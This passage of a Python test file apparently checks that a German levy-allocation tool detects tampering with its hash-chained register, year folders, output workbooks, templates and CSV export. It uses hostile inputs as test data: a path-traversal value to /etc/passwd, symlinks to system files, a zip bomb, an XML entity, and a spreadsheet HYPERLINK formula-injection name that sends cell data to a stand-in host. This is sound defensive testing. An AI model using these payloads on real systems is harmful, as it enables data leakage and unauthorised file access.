    entry = {"seq": 1, "prev_sha256": "0" * 64, **fields}
    return json.dumps(entry, sort_keys=True).encode("ascii")


def _legacy_register(line: bytes) -> Callable[[Bench], None]:
    """The register replaced by one of an earlier version (no chain), holding one line `line`."""
    def damage(bench: Bench) -> None:
        for path in bench.register.iterdir():
            if path.suffix == ".jsonl":
                path.unlink()
        (bench.register / DISTRICT).write_bytes(line + b"\n")
    return damage


_LEGACY_FIELDS = {"recorded_utc": "2022-03-31T10:00:00Z", "district": "Kreis Wesel", "year": 2022,
                  "output": "alt.xlsx", "output_sha256": "c" * 64, "supersedes": None, "reason": None}

# (id, tampering, damage(bench), where, hangs)
_REGISTER_DAMAGES = [
    ("cut-last-line", "the last line of wesel-2022.jsonl cut short (40 bytes, its line end too)",
     lambda b: cut(_district(b)), f"{DISTRICT}:3", False),
    ("first-line-edited", "line 1 of wesel-2022.jsonl edited (`total_cents` + 1): line 2 no longer links to it",
     lambda b: edit_line(_district(b), 1, plus_one("total_cents")), f"{DISTRICT}:2", False),
    ("middle-line-edited", "line 2 of 3 edited: line 3 no longer links to it",
     lambda b: edit_line(_district(b), 2, plus_one("total_cents")), f"{DISTRICT}:3", False),
    ("last-line-edited", "the last line edited: the chain holds its old hash",
     lambda b: edit_line(_district(b), 3, plus_one("total_cents")), f"{DISTRICT}:3", False),
    ("lines-swapped", "lines 2 and 3 swapped", lambda b: swap_lines(_district(b), 2, 3), f"{DISTRICT}:2", False),
    ("first-line-deleted", "line 1 deleted: the new first line does not start the chain",
     lambda b: delete_line(_district(b), 1), f"{DISTRICT}:1", False),
    ("middle-line-deleted", "line 2 of 3 deleted", lambda b: delete_line(_district(b), 2), f"{DISTRICT}:2", False),
    ("last-line-deleted", "the last line deleted (the chain still names it)", lambda b: delete_line(_district(b), 3),
     f"{DISTRICT}:3", False),
    ("emptied", "wesel-2022.jsonl emptied", lambda b: _district(b).write_bytes(b""), DISTRICT, False),
    ("removed", "wesel-2022.jsonl removed (the chain names its lines)", lambda b: _district(b).unlink(),
     f"{DISTRICT}:1", False),
    ("extra-district-file", "a district file the chain does not hold (a copy of kleve-2022.jsonl as kleve-2023.jsonl)",
     lambda b: shutil.copyfile(b.register / "kleve-2022.jsonl", b.register / "kleve-2023.jsonl"),
     "kleve-2023.jsonl:1", False),
    ("chain-deleted", "_kette.jsonl deleted while lines of allocation-register/2 exist", lambda b: _chain(b).unlink(),
     CHAIN, False),
    ("chain-line-edited", "the last line of _kette.jsonl edited (its year), its seal kept",
     lambda b: edit_line(_chain(b), -1, replaced(b'"year": 2022', b'"year": 2023')), f"{CHAIN}:4", False),
    ("chain-line-deleted", "the last line of _kette.jsonl deleted", lambda b: delete_line(_chain(b), -1),
     "kleve-2022.jsonl:1", False),
    ("fifo", "a FIFO `wesel-2023.jsonl` in the folder", lambda b: fifo(b.register / "wesel-2023.jsonl"),
     "wesel-2023.jsonl", True),
    ("socket", "a socket `s.jsonl` in the folder", lambda b: unix_socket(b.register / "s.jsonl"), "s.jsonl", False),
    ("symlink", "a symbolic link `wesel-2021.jsonl` → wesel-2022.jsonl in the folder",
     lambda b: symlink(b.register / "wesel-2021.jsonl", DISTRICT), "wesel-2021.jsonl", False),
    ("lock-symlink-dev-zero", "the lock `.sperre` a symbolic link to `/dev/zero`",
     lambda b: symlink(b.register / ".sperre", "/dev/zero"), ".sperre", True),
    ("line-2mb", "a 2 MB line appended to wesel-2022.jsonl (beyond 1 MiB per line)",
     lambda b: append_line(_district(b), b'{"reason": "' + b"x" * (2 << 20) + b'"}'), f"{DISTRICT}:4", False),
    ("deep-json", f"a line of {DEEP} nested brackets appended (beyond 32 levels)",
     lambda b: append_line(_district(b), deep_json()), f"{DISTRICT}:4", False),
    ("legacy-line-incomplete", "a register of an earlier version (no chain) whose line lacks its time, district and year",
     _legacy_register(_legacy_line(output="alt.xlsx")), f"{DISTRICT}:1", False),
    ("legacy-line-surrogate", "a register of an earlier version whose line names an output `\\ud800.xlsx`",
     _legacy_register(_legacy_line(**{**_LEGACY_FIELDS, "output": "\ud800.xlsx"})), f"{DISTRICT}:1", False),
]


def _register_commands(bench: Bench) -> dict[str, Call]:
    final = bench.copy_run(bench.bases.finals["3"])
    return {
        "run-final": call("run", INPUT, "--rules", RULES, "-o", bench.path("neu.xlsx"), "--mode", "final",
                          "--supersede", "noch einmal", "--json"),
        "run-test": call("run", INPUT, "--rules", RULES, "-o", bench.path("probe.xlsx"), "--json"),
        "template": call("template", bench.path("vorlage.xlsx"), "--json"),
        "verify": call("verify", final, "--json"),
        "status": call("register", "status", "--json"),
    }


# command key -> (shown command, exit, code, why)
_REGISTER_EXPECT = {
    "run-final": ("run --mode final --supersede", 8, "register-corrupt", R_REGISTER),
    "run-test": ("run (Probelauf)", 8, "register-corrupt", R_REGISTER),
    "template": ("template", 8, "register-corrupt", R_REGISTER),
    "verify": ("verify (Echtlauf)", 7, "register[register-corrupt]", R_REGISTER_VERIFY),
    "status": ("register status", 8, "register-corrupt", R_STATUS),
}
_UNUSABLE_EXPECT = {
    "run-final": ("run --mode final --supersede", 9, "register-unusable"),
    "run-test": ("run (Probelauf)", 9, "register-unusable"),
    "template": ("template", 9, "register-unusable"),
    "verify": ("verify (Echtlauf)", 7, "register[register-unusable]"),
    "status": ("register status", 9, "register-unusable"),
}
R_UNUSABLE = "docs/auditor/register.md › Concurrency: a register place that is a file is `register-unusable` (exit 9)"


def _register_case(name: str, tampering: str, damage: Callable[[Bench], None], where: str | None, hangs: bool,
                   key: str, expect: tuple) -> Case:
    shown, exit_code, code, why = expect

    def prepare(bench: Bench) -> Call:
        bench.use_register(bench.bases.finals["register"])
        calls = _register_commands(bench)
        damage(bench)
        return calls[key]

    return Case(f"register/{name}/{key}", "register", tampering, shown, exit_code, code, why, prepare, where, hangs)


def _register_a_file(bench: Bench) -> None:
    remove(bench.register)
    bench.register.write_text("keine Registerdatei\n", encoding="utf-8")


def register_cases() -> list[Case]:
    cases = [_register_case(name, tampering, damage, where, hangs, key, expect)
             for name, tampering, damage, where, hangs in _REGISTER_DAMAGES
             for key, expect in _REGISTER_EXPECT.items()]
    cases += [_register_case("a-file", "ALLOCATION_REGISTER names a file", _register_a_file, "register", False, key,
                             (*expect, R_UNUSABLE)) for key, expect in _UNUSABLE_EXPECT.items()]
    return cases


# ------------------------------------------------------------------------------------------- year folders

R_YEAR = ("docs/controller/umlagejahr.md › `allocation year status`, the hash chain: an edited, reordered or removed "
          "line, a line cut short or bound to another jahr.json is `year-chain-broken` (exit 7), naming the line; "
          "`year stage` refuses to append")
R_STAGE = ("docs/controller/umlagejahr.md › `allocation year status`: a changed or missing file, an orphan stage "
           "folder, a link, FIFO or device in the year folder are `year-stage-changed` (exit 7)")
R_NOT_YEAR = ("docs/operations/exit-codes.md › Problem codes, levy year: `year-not-a-year-folder` (exit 8); "
              "docs/operations/limits.md: the year folder's records are regular files, no links, `jahr.json` 64 KiB, "
              "JSON 32 deep")
R_SEAL = ("docs/auditor/verify.md › One way back in, Seals: `jahr.json` and every stage line carry a seal "
          "(`year-chain-broken`)")
YEAR_FILE, STAGES = "jahr.json", "stufen.jsonl"


def _year_record(bench: Bench) -> Path:
    return bench.path("jahr", YEAR_FILE)


def _stages(bench: Bench) -> Path:
    return bench.path("jahr", STAGES)


def _sealed_json(path: Path, edit: Callable[[dict], None], ascii_only: bool = False) -> None:
    from allocation.runs.manifest import sealed

    record = json.loads(path.read_text(encoding="utf-8"))
    edit(record)
    path.write_text(json.dumps(sealed(record), ensure_ascii=ascii_only, indent=2) + "\n", encoding="utf-8")


def _sealed_line(path: Path, number: int, edit: Callable[[dict], None], ascii_only: bool = False) -> None:
    """A stage line edited and sealed again, as `year stage` would have written it (its link kept)."""
    from allocation.runs.manifest import sealed

    def apply(line: bytes) -> bytes:
        entry = json.loads(line)
        edit(entry)
        return json.dumps(sealed(entry), ensure_ascii=ascii_only, sort_keys=True).encode() + b"\n"
    edit_line(path, number, apply)


def _set_record(key: str, value: object) -> Callable[[dict], None]:
    return lambda record: record.__setitem__(key, value)


def _set_file(kind: str, file: str) -> Callable[[dict], None]:
    return lambda entry: entry[kind].__setitem__("file", file)


def _changed_file(*parts: str) -> Callable[[Bench], None]:
    def damage(bench: Bench) -> None:
        path = bench.path("jahr", *parts)
        path.write_bytes(path.read_bytes() + b"\0")
    return damage


# (id, tampering, damage, exit, code, where, why, hangs)
_YEAR_DAMAGES = [
    ("record-edited", "jahr.json: district edited, seal kept",
     lambda b: _year_record(b).write_text(_year_record(b).read_text("utf-8").replace("Kreis Wesel", "Kreis Kleve"), "utf-8"),
     7, "year-chain-broken", YEAR_FILE, R_SEAL, False),
    ("record-edited-resealed", "jahr.json: district edited, sealed again (the lines are bound to the old one)",
     lambda b: _sealed_json(_year_record(b), _set_record("district", "Kreis Kleve")), 7, "year-chain-broken",
     f"{STAGES}:1", R_YEAR, False),
    ("record-removed", "jahr.json removed", lambda b: _year_record(b).unlink(), 8, "year-not-a-year-folder", YEAR_FILE,
     R_NOT_YEAR, False),
    ("record-fifo", "jahr.json a FIFO", lambda b: fifo(_year_record(b)), 8, "year-not-a-year-folder", YEAR_FILE,
     R_NOT_YEAR, True),
    ("record-symlink", "jahr.json a symbolic link to a copy of itself outside the folder",
     lambda b: (shutil.copyfile(_year_record(b), b.path("jahr-kopie.json")), symlink(_year_record(b), b.path("jahr-kopie.json"))),
     8, "year-not-a-year-folder", YEAR_FILE, R_NOT_YEAR, False),
    ("record-deep", f"jahr.json {DEEP} nested brackets", lambda b: _year_record(b).write_bytes(deep_json()), 8,
     "year-not-a-year-folder", YEAR_FILE, R_NOT_YEAR, False),
    ("record-surrogate", "jahr.json: district with a lone surrogate escape `\\ud800`, sealed again",
     lambda b: _sealed_json(_year_record(b), _set_record("district", "Kreis \ud800"), ascii_only=True), 8,
     "year-not-a-year-folder", YEAR_FILE, R_NOT_YEAR + "; text that is no Unicode is not JSON we read", False),
    ("line-edited", "stufen.jsonl: the last line edited (its reason), seal kept",
     lambda b: edit_line(_stages(b), 2, replaced(b'"reason": null', b'"reason": "nachgetragen"')), 7,
     "year-chain-broken", f"{STAGES}:2", R_SEAL, False),
    ("first-line-edited", "stufen.jsonl: line 1 edited and sealed again: line 2 no longer links to it",
     lambda b: _sealed_line(_stages(b), 1, _set_record("reason", "nachgetragen")), 7, "year-chain-broken",
     f"{STAGES}:2", R_YEAR, False),
    ("line-cut", "stufen.jsonl: the last line cut short", lambda b: cut(_stages(b)), 7, "year-chain-broken",
     f"{STAGES}:2", R_YEAR, False),
    ("lines-swapped", "stufen.jsonl: lines 1 and 2 swapped", lambda b: swap_lines(_stages(b), 1, 2), 7,
     "year-chain-broken", f"{STAGES}:1", R_YEAR, False),
    ("first-line-deleted", "stufen.jsonl: line 1 deleted", lambda b: delete_line(_stages(b), 1), 7, "year-chain-broken",
     f"{STAGES}:1", R_YEAR, False),
    ("last-line-deleted", "stufen.jsonl: the last line deleted (02-benehmen/ left an orphan)",
     lambda b: delete_line(_stages(b), 2), 7, "year-stage-changed", "02-benehmen", R_STAGE, False),
    ("chain-emptied", "stufen.jsonl emptied (both stage folders orphans)", lambda b: _stages(b).write_bytes(b""), 7,
     "year-stage-changed", "01-modell", R_STAGE, False),
    ("path-dotdot", "stufen.jsonl: the last line's input `../../../../etc/passwd`, sealed again",
     lambda b: _sealed_line(_stages(b), 2, _set_file("input", "../../../../etc/passwd")), 7, "year-chain-broken",
     f"{STAGES}:2", "docs/controller/umlagejahr.md › `allocation year status`: a path in a line must name a file of "
                    "its own stage folder", False),
    ("path-other-stage", "stufen.jsonl: the last line's output names 01-modell's output, sealed again",
     lambda b: _sealed_line(_stages(b), 2, _set_file("output", "01-modell/ergebnis-modell.xlsx")), 7,
     "year-chain-broken", f"{STAGES}:2", "docs/controller/umlagejahr.md › `allocation year status`: a path in a line "
                                         "must name a file of its own "
     "stage folder", False),
    ("line-surrogate", "stufen.jsonl: the last line's reason with a lone surrogate escape, sealed again",
     lambda b: _sealed_line(_stages(b), 2, _set_record("reason", "\ud800"), ascii_only=True), 7, "year-chain-broken",
     f"{STAGES}:2", R_YEAR + "; text that is no Unicode is not JSON we read", False),
    ("line-deep", f"stufen.jsonl: a line of {DEEP} nested brackets appended", lambda b: append_line(_stages(b), deep_json()),
     7, "year-chain-broken", f"{STAGES}:3", "docs/operations/limits.md › the year folder's records: JSON nested at "
                                            "most 32 deep", False),
    ("line-2mb", "stufen.jsonl: a 2 MB line appended",
     lambda b: append_line(_stages(b), b'{"reason": "' + b"x" * (2 << 20) + b'"}'), 7, "year-chain-broken",
     f"{STAGES}:3", "docs/operations/limits.md › the year folder's records: 1 MiB per line", False),
    ("chain-fifo", "stufen.jsonl a FIFO", lambda b: fifo(_stages(b)), 7, "year-chain-broken", STAGES,
     "docs/auditor/verify.md › One way back in, Bounds: a FIFO is refused before a byte is read", True),
    ("chain-symlink", "stufen.jsonl a symbolic link to a copy of itself",
     lambda b: (shutil.copyfile(_stages(b), b.path("kopie.jsonl")), symlink(_stages(b), b.path("kopie.jsonl"))), 7,
     "year-chain-broken", STAGES, "docs/auditor/verify.md › One way back in: a symbolic link is refused inside the "
                                  "year folder", False),
    ("orphan-folder", "an orphan stage folder 03-entwurf/", lambda b: b.path("jahr", "03-entwurf").mkdir(), 7,
     "year-stage-changed", "03-entwurf", R_STAGE, False),
    ("input-changed", "01-modell/gueltig.xlsx changed (a byte appended)", _changed_file("01-modell", "gueltig.xlsx"), 7,
     "year-stage-changed", "01-modell", R_STAGE, False),
    ("output-changed", "02-benehmen/ergebnis-benehmen.xlsx changed", _changed_file("02-benehmen", "ergebnis-benehmen.xlsx"),
     7, "year-stage-changed", "02-benehmen", R_STAGE, False),
    ("manifest-removed", "02-benehmen's manifest removed",
     lambda b: b.path("jahr", "02-benehmen", "ergebnis-benehmen.xlsx.manifest.json").unlink(), 7, "year-stage-changed",
     "02-benehmen", R_STAGE, False),
    ("stage-file-fifo", "01-modell/regeln.yaml replaced by a FIFO", lambda b: fifo(b.path("jahr", "01-modell", "regeln.yaml")),
     7, "year-stage-changed", "01-modell", R_STAGE + " (read only as regular files)", True),
    ("symlink-in-folder", "a symbolic link `notiz` → /etc/hostname in the year folder",
     lambda b: symlink(b.path("jahr", "notiz"), "/etc/hostname"), 7, "year-stage-changed", "notiz", R_STAGE, False),
    ("fifo-in-folder", "a FIFO `rohr` in the year folder", lambda b: fifo(b.path("jahr", "rohr")), 7, "year-stage-changed",
     "rohr", R_STAGE, True),
    ("stage-folder-symlink", "01-modell/ replaced by a symbolic link to a copy of it",
     lambda b: (shutil.copytree(b.path("jahr", "01-modell"), b.path("modell-kopie")),
                symlink(b.path("jahr", "01-modell"), b.path("modell-kopie"))), 7, "year-stage-changed", "01-modell",
     R_STAGE, False),
]


def _year_case(entry: tuple, command: str) -> Case:
    name, tampering, damage, exit_code, code, where, why, hangs = entry

    def prepare(bench: Bench) -> Call:
        folder = bench.copy_tree(bench.bases.year, "jahr")
        damage(bench)
        if command == "status":
            return call("year", "status", folder, "--json")
        return call("year", "stage", folder, "entwurf", INPUT, "--rules", RULES, "--json")

    shown = "year status" if command == "status" else "year stage entwurf"
    return Case(f"year/{name}/{command}", "year", tampering, shown, exit_code, code, why, prepare, where, hangs)


def year_cases() -> list[Case]:
    return [_year_case(entry, command) for entry in _YEAR_DAMAGES for command in ("status", "stage")]


# ---------------------------------------------------------------------------------------------- earlier outputs

R_HASH = ("docs/auditor/verify.md › One way back in, Hashes: a workbook without its manifest is `output-no-manifest` "
          "(exit 3; `compare-not-an-output` for compare), one that does not match it `output-changed` (exit 7; "
          "`notices-previous-changed` for notices --previous)")
R_BOUNDS = ("docs/operations/limits.md › output workbooks read back: the input's zip checks (zip bombs, XML "
            "entities) keep their codes, exit 3")
R_UNREADABLE = ("docs/operations/limits.md › output workbooks read back: a regular file only; a damaged one is "
                "`<command>-unreadable`, exit 3")
R_RELATION = "docs/auditor/verify.md › One way back in, District and year"


def _earlier_damages(command: str) -> list[tuple]:
    """(id, tampering, damage(bench, workbook), exit, code, where, why, hangs) for one reading command; the codes
    each command has of its own (docs/auditor/verify.md, One way back in)."""
    unreadable = f"{command}-unreadable"
    missing = {"compare": (3, "compare-not-an-output"), "notices": (7, "notices-previous-changed")}.get(
        command, (3, "output-no-manifest"))
    changed = "notices-previous-changed" if command == "notices" else "output-changed"
    return [
        ("manifest-missing", "the workbook without its manifest", lambda b, w: manifest_of(w).unlink(), *missing,
         WORKBOOK, R_HASH, False),
        ("manifest-of-another", "beside it the manifest of another run's workbook of the same name",
         lambda b, w: shutil.copyfile(manifest_of(b.bases.small["kleve"] if command in ("explain", "compare", "trueup")
                                                  else b.bases.wesel["kleve-2022"]), manifest_of(w)),
         7, changed, WORKBOOK, R_HASH, False),
        ("edited", "the workbook edited after the run (a byte appended)", lambda b, w: w.write_bytes(w.read_bytes() + b"\0"),
         7, changed, WORKBOOK, R_HASH, False),
        ("zip-bomb-resigned", "a 4 MiB part of zeros added, the manifest re-signed to match",
         lambda b, w: resign(w, zip_bomb(w)), 3, "input-zip-bomb", None, R_BOUNDS, False),
        ("xml-entity-resigned", "an XML entity in xl/workbook.xml, the manifest re-signed to match",
         lambda b, w: resign(w, xml_entity(w)), 3, "input-xml-dtd", None, R_BOUNDS, False),
        ("fifo", "the workbook a FIFO (its manifest beside it)", lambda b, w: fifo(w), 3, unreadable, WORKBOOK,
         R_UNREADABLE, True),
        ("directory", "the workbook a folder (its manifest beside it)", lambda b, w: (w.unlink(), w.mkdir()), 3,
         unreadable, WORKBOOK, R_UNREADABLE, False),
        ("symlink-dev-zero", "the workbook a symbolic link to /dev/zero", lambda b, w: symlink(w, "/dev/zero"), 3,
         unreadable, WORKBOOK, R_UNREADABLE, True),
    ]


def _earlier_call(command: str, bench: Bench, workbook: Path) -> Call:
    """The command reading `workbook` as its earlier output."""
    out = bench.path("ausgabe.xlsx")
    if command == "explain":
        return call("explain", workbook, "--item", "KIM-2022", "--ags", ALPEN)
    if command == "compare":
        return call("compare", bench.bases.small["a"], workbook, "-o", out, "--json")
    if command == "trueup":
        return call("trueup", workbook, INPUT, "--rules", RULES, "-o", out, "--json")
    if command == "notices":
        main_run = bench.copy_run(bench.bases.wesel["final-2"], "neu")
        return call("notices", main_run, "-o", bench.path("bescheide"), "--previous", workbook, "--date", "2022-06-20",
                    "--json")
    return call("benehmen", WESEL, "--rules", WESEL_RULES, "--previous", workbook, "-o", bench.path("benehmen"),
                "--date", "2022-01-17", "--json")


_EARLIER_BASE = {"explain": lambda b: b.bases.small["a"], "compare": lambda b: b.bases.small["b"],
                 "trueup": lambda b: b.bases.finals["3"], "notices": lambda b: b.bases.wesel["final-1"],
                 "benehmen": lambda b: b.bases.wesel["2021"]}
_EARLIER_SHOWN = {"explain": "explain --item", "compare": "compare A OUT", "trueup": "trueup OUT IST.xlsx",
                  "notices": "notices NEU --previous OUT", "benehmen": "benehmen --previous OUT"}


def _earlier_case(command: str, name: str, tampering: str, damage, exit_code: int, code: str, where, why: str,
                  hangs: bool = False, base: Callable[[Bench], Path] | None = None) -> Case:
    def prepare(bench: Bench) -> Call:
        if command in ("trueup", "notices"):  # both look the final runs up in the register
            bench.use_register(bench.bases.finals["register"] if command == "trueup" else bench.bases.wesel["register"])
        workbook = bench.copy_run((base or _EARLIER_BASE[command])(bench), "frueher")
        made = _earlier_call(command, bench, workbook)
        damage(bench, workbook)
        return made

    return Case(f"earlier/{command}/{name}", "earlier", tampering, _EARLIER_SHOWN[command], exit_code, code, why,
                prepare, where, hangs, typst=command in ("notices", "benehmen"))


def _untouched(bench: Bench, workbook: Path) -> None:
    """No damage: the file itself is the wrong one for the command."""


def earlier_cases() -> list[Case]:
    cases = [_earlier_case(command, *entry) for command in _EARLIER_BASE for entry in _earlier_damages(command)]
    cases += [
        _earlier_case("explain", "manifest-of-another-name", "beside it the manifest of a workbook of another name",
                      _other_name, 7, "manifest-bad-value", "output.file",
                      "docs/auditor/verify.md › step 1: `output.file` must be the workbook beside the manifest"),
        _earlier_case("compare", "other-district", "the second workbook is Kreis Kleve's", _untouched, 3,
                      "compare-other-district", None, R_RELATION + ": compare two outputs of one district", False,
                      lambda b: b.bases.small["kleve"]),
        _earlier_case("trueup", "superseded", "the final run superseded by a later one", _untouched, 3,
                      "trueup-superseded", "Nr. 3", R_RELATION + ": trueup the final run in force (naming it)", False,
                      lambda b: b.bases.finals["1"]),
        _earlier_case("trueup", "test-run", "a test run instead of a final run", _untouched, 3, "trueup-not-final", None,
                      "docs/controller/ergebnis.md › Spitzabrechnung: only a final run can be "
                      "settled", False, lambda b: b.bases.small["a"]),
        _earlier_case("trueup", "other-district", "the final run of Kreis Kleve against Wesel's figures", _untouched, 3,
                      "trueup-mismatch", None, "docs/operations/exit-codes.md › Problem codes: `trueup-mismatch` "
                                               "(exit 3)", False,
                      lambda b: b.bases.finals["kleve"]),
        _earlier_case("notices", "other-district", "--previous: a run of Kreis Kleve", _untouched, 3,
                      "notices-previous-mismatch", None, R_RELATION + ": a change notice's --previous the same Kreis", False,
                      lambda b: b.bases.wesel["kleve-2022"]),
        _earlier_case("notices", "other-year", "--previous: the run of 2021", _untouched, 3, "notices-previous-mismatch",
                      None, R_RELATION + ": a change notice's --previous the same year", False,
                      lambda b: b.bases.wesel["2021"]),
        _earlier_case("notices", "same-workbook", "--previous: the same workbook as the new run", _untouched, 3,
                      "notices-previous-mismatch", None, R_RELATION + ": an earlier run is another workbook", False,
                      lambda b: b.bases.wesel["final-2"]),
        _later_as_previous(),
        _earlier_case("benehmen", "other-district", "--previous: Kreis Kleve's 2021", _untouched, 3,
                      "benehmen-previous-mismatch", None, R_RELATION + ": benehmen --previous the same district", False,
                      lambda b: b.bases.wesel["kleve-2021"]),
        _earlier_case("benehmen", "same-year", "--previous: the run of the planned year 2022 itself", _untouched, 3,
                      "benehmen-previous-mismatch", None, R_RELATION + ": benehmen --previous the year before", False,
                      lambda b: b.bases.wesel["2022"]),
        _earlier_case("compare", "manifest-district-resealed", "Kreis Kleve's workbook, its manifest's district "
                      "edited to Kreis Wesel and sealed again", _manifest_says("district", "Kreis Wesel"), 7,
                      "output-changed", "Protokoll", R_FORGED, False, lambda b: b.bases.small["kleve"]),
        _earlier_case("benehmen", "manifest-year-resealed", "the 2022 workbook, its manifest's year edited to 2021 and "
                      "sealed again", _manifest_says("year", 2021), 7, "output-changed", "Protokoll", R_FORGED, False,
                      lambda b: b.bases.wesel["2022"]),
        _earlier_case("benehmen", "manifest-district-resealed", "Kreis Kleve's 2021 workbook, its manifest's district "
                      "edited to Kreis Wesel and sealed again", _manifest_says("district", "Kreis Wesel"), 7,
                      "output-changed", "Protokoll", R_FORGED, False, lambda b: b.bases.wesel["kleve-2021"]),
        _notices_main("manifest-missing", "the run to write notices for without its manifest",
                      lambda w: manifest_of(w).unlink()),
        _notices_main("edited", "the run to write notices for edited (a byte appended)",
                      lambda w: w.write_bytes(w.read_bytes() + b"\0")),
    ]
    return cases


R_FORGED = ("docs/auditor/verify.md › One way back in, District and year: the relation is the workbook's own (its "
            "Protokoll); a manifest that names another is one the workbook does not match, `output-changed` (exit 7)")


def _manifest_says(key: str, value: object) -> Callable[[Bench, Path], None]:
    """The manifest's `parameters.<key>` edited and sealed again: the workbook itself still shows the old value."""
    return lambda bench, workbook: edit_manifest(workbook, _set(value, "parameters", key))


def _other_name(bench: Bench, workbook: Path) -> None:
    other = bench.path("anders", "anders.xlsx")
    other.parent.mkdir()
    from allocation.runs.manifest import sealed

    manifest = json.loads(manifest_of(bench.bases.small["b"]).read_text(encoding="utf-8"))
    manifest["output"]["file"] = manifest["output"]["path"] = other.name
    manifest_of(workbook).write_text(json.dumps(sealed(manifest), indent=2), encoding="utf-8")


def _later_as_previous() -> Case:
    def prepare(bench: Bench) -> Call:
        bench.use_register(bench.bases.wesel["register"])
        earlier = bench.copy_run(bench.bases.wesel["final-1"], "neu")
        later = bench.copy_run(bench.bases.wesel["final-2"], "frueher")
        return call("notices", earlier, "-o", bench.path("bescheide"), "--previous", later, "--date", "2022-06-20",
                    "--json")

    return Case("earlier/notices/later-run", "earlier", "--previous: the final run registered after the new one",
                _EARLIER_SHOWN["notices"], 3, "notices-superseded",
                "docs/controller/bescheide.md › the new run is superseded by the later one, so no notice is written "
                "from it (refused before its --previous is read)", prepare, typst=True)


def _notices_main(name: str, tampering: str, damage: Callable[[Path], None]) -> Case:
    def prepare(bench: Bench) -> Call:
        workbook = bench.copy_run(bench.bases.wesel["2022"], "lauf")
        damage(workbook)
        return call("notices", workbook, "-o", bench.path("bescheide"), "--date", "2022-03-15", "--json")

    return Case(f"earlier/notices/main-{name}", "earlier", tampering, "notices OUT", 7, "notices-not-verified",
                "docs/controller/bescheide.md › it refuses unless the run is confirmed "
                "(`notices-not-verified`, exit 7)",
                prepare, typst=True)


# ------------------------------------------------------------------------------------ templates and exports

R_TEMPLATE = ("docs/operations/limits.md › Notice templates run within bounds: only folders and regular files are "
              "copied; a link, FIFO, device or socket is `notices-template-file`, more than 50 MiB per file "
              "`notices-template-too-large` (exit 2)")
R_IN_TEMPLATE = ("docs/operations/limits.md › Notice templates run within bounds: `-o` in the template folder is "
                 "`notices-output-in-template` (exit 8)")


def _template(bench: Bench) -> Path:
    folder = bench.path("vorlage")
    folder.mkdir()
    (folder / "notiz.txt").write_text("eine Datei, die keine Vorlage ersetzt\n", encoding="utf-8")
    return folder


def _big_file(path: Path) -> None:
    with open(path, "wb") as handle:  # sparse: 50 MiB + 1 byte without writing them
        handle.truncate(50 * 2**20 + 1)


_TEMPLATE_DAMAGES = [
    ("symlink", "a symbolic link `briefkopf.typ` → /etc/passwd in --template",
     lambda t: symlink(t / "briefkopf.typ", "/etc/passwd"), 2, "notices-template-file", "briefkopf.typ", R_TEMPLATE, False),
    ("fifo", "a FIFO `logo.png` in --template", lambda t: fifo(t / "logo.png"), 2, "notices-template-file", "logo.png",
     R_TEMPLATE, True),
    ("socket", "a socket `s.typ` in --template", lambda t: unix_socket(t / "s.typ"), 2, "notices-template-file", "s.typ",
     R_TEMPLATE, False),
    ("too-large", "a file of 50 MiB + 1 byte in --template/fonts", lambda t: ((t / "fonts").mkdir(), _big_file(t / "fonts" / "gross.ttf")),
     2, "notices-template-too-large", "gross.ttf", R_TEMPLATE, False),
]


def _template_call(command: str, bench: Bench, template: Path, out: Path) -> Call:
    if command == "notices":
        workbook = bench.copy_run(bench.bases.wesel["2022"])
        return call("notices", workbook, "-o", out, "--template", template, "--date", "2022-03-15", "--json")
    previous = bench.copy_run(bench.bases.wesel["2021"], "vorjahr")
    return call("benehmen", WESEL, "--rules", WESEL_RULES, "--previous", previous, "-o", out, "--template", template,
                "--date", "2022-01-17", "--json")


def template_cases() -> list[Case]:
    cases = []
    for command in ("notices", "benehmen"):
        for name, tampering, damage, exit_code, code, where, why, hangs in _TEMPLATE_DAMAGES:
            def prepare(bench: Bench, command=command, damage=damage) -> Call:
                template = _template(bench)
                made = _template_call(command, bench, template, bench.path("ausgabe"))
                damage(template)
                return made

            cases.append(Case(f"template/{command}/{name}", "template", tampering, f"{command} --template DIR", exit_code,
                              code, why, prepare, where, hangs, typst=True))

        def inside(bench: Bench, command=command) -> Call:
            template = _template(bench)
            return _template_call(command, bench, template, template / "ausgabe")

        cases.append(Case(f"template/{command}/output-inside", "template", "-o inside the --template folder",
                          f"{command} --template DIR -o DIR/ausgabe", 8, "notices-output-in-template", R_IN_TEMPLATE,
                          inside, "ausgabe", typst=True))
    return cases


R_CSV = ("docs/controller/bescheide.md › Abschlaege.csv: text fields that begin with `=`, `+`, `-`, `@`, a tab or a "
         "carriage return get a leading apostrophe")
R_TRIM = ("docs/operations/limits.md › Hostile and broken input: values are trimmed, so a Gemeinde name read from "
          "the input never begins with a tab or carriage return")
_HOSTILE_NAMES = {"05170004": '=HYPERLINK("http://x.example/?"&A1;"Klick")', "05170008": "+Dinslaken",
                  "05170012": "-Hamminkeln", "05170016": "@Hünxe", "05170020": "\tKamp-Lintfort", "05170024": "\rMoers"}
# what the CSV must show in Gemeinde, by hand: the apostrophe before a formula start, the trimmed names as they are
_SHOWN_NAMES = {"05170004": '\'=HYPERLINK("http://x.example/?"&A1;"Klick")', "05170008": "'+Dinslaken",
                "05170012": "'-Hamminkeln", "05170016": "'@Hünxe", "05170020": "Kamp-Lintfort", "05170024": "Moers"}


def csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def _export(kassenzeichen: str, names: bool, expected_kz: Callable[[str], str]) -> Callable[[Bench], Call]:
    def prepare(bench: Bench) -> Call:
        run = bench.bases.export(kassenzeichen, _HOSTILE_NAMES if names else None)
        workbook = bench.copy_run(run)
        folder = bench.path("bescheide")

        def check() -> None:
            rows = csv_rows(folder / "Abschlaege.csv")
            assert rows
            for row in rows:
                assert row["Kassenzeichen"] == expected_kz(row["AGS"]) + "-" + row["Umlage"].lower(), row
                if names and row["AGS"] in _SHOWN_NAMES:
                    assert row["Gemeinde"] == _SHOWN_NAMES[row["AGS"]], row
            if names:
                assert {row["AGS"] for row in rows} >= set(_SHOWN_NAMES)

        return call("notices", workbook, "-o", folder, "--date", "2022-03-15", "--json", check=check)
    return prepare


def export_cases() -> list[Case]:
    cases = [Case("export/gemeinde-and-kassenzeichen-equals", "export",
                  "Gemeinde names beginning with `=`, `+`, `-`, `@`, tab, CR; Kassenzeichen pattern `=KU-{jahr}-{ags}-{umlage}`",
                  "notices OUT (Abschlaege.csv)", 0, "(none: the CSV field begins with ')", R_CSV + "; " + R_TRIM,
